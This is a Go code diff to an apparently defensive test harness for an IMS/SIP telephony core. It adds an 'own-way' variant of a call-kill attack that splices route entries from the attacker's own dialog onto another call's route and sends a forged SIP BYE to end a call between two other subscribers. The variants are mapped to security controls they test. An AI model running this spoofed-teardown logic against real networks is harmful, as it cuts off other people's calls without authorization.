@@ -3,6 +3,8 @@ package attack
 import (
 	"context"
 	"fmt"
+	"slices"
+	"strings"
 	"time"
 
 	"imsafe/client/ue"
@@ -19,6 +21,7 @@ func dialogKill() Attack {
 		Bounds: Bounds{Packets: 60, Bytes: 80_000, Conns: 2, Time: 3 * time.Second},
 		Variants: []Variant{
 			{Name: "subscriber", Position: Subscriber, Run: killAsSubscriber, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
+			{Name: "own-way", Position: Subscriber, Run: killByOwnWay, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
 			{Name: "stranger", Position: OffPath, Run: killAsStranger,
 				Controls: []secure.ControlID{secure.CIAuthorizationProtectedPort, secure.CIIntegrityDialogOwner}},
 		},
@@ -30,7 +33,32 @@ func killAsSubscriber(ctx context.Context, f *Field, o *Outcome) error {
 	if err != nil {
 		return err
 	}
-	return kill(ctx, f, o, mallory)
+	return kill(ctx, f, o, mallory, nil)
+}
+
+// killByOwnWay goes into the core by the entry of a dialog of the attacker's own, and from there by the way of the call of others.
+func killByOwnWay(ctx context.Context, f *Field, o *Outcome) error {
+	carol, mallory, err := f.carolAndMallory(ctx)
+	if err != nil {
+		return err
+	}
+	own, _, err := mallory.talksTo(ctx, carol)
+	if err != nil {
+		return err
+	}
+	var entry []string
+	for _, line := range own.Lines {
+		if isOfServing(line) {
+			break
+		}
+		entry = append(entry, strings.TrimPrefix(line, "Route: "))
+	}
+	return kill(ctx, f, o, mallory, entry)
+}
+
+// isOfServing reports whether an entry of a route is that of an S-CSCF.
+func isOfServing(entry string) bool {
+	return strings.Contains(entry, "sip:orig@") || strings.Contains(entry, "sip:term@")
 }
 
 func killAsStranger(ctx context.Context, f *Field, o *Outcome) error {
@@ -38,11 +66,11 @@ func killAsStranger(ctx context.Context, f *Field, o *Outcome) error {
 	if err != nil {
 		return err
 	}
-	return kill(ctx, f, o, stranger)
+	return kill(ctx, f, o, stranger, nil)
 }
 
 // kill sends BYE in the name of either end of a call between alice and bob, with all that a reader of their signalling knows.
-func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand) error {
+func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand, entry []string) error {
 	out, in, err := f.Alice.Talk(ctx, f.Bob)
 	if err != nil {
 		return err
@@ -56,7 +84,11 @@ func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand) error {
 		}
 		bye := Request{Method: "BYE", URI: leg.Target, From: leg.Local, FromTag: leg.LocalTag, To: leg.Remote, ToTag: leg.RemoteTag,
 			CallID: leg.CallID, CSeq: leg.Seq + 100 + uint32(i)}
-		for _, r := range leg.Route {
+		route := leg.Route
+		if at := slices.IndexFunc(route, isOfServing); entry != nil && at >= 0 {
+			route = slices.Concat(entry, route[at:])
+		}
+		for _, r := range route {
 			bye.Lines = append(bye.Lines, "Route: "+r)
 		}
 		status, err := killer.answered(ctx, killer.Text(bye))
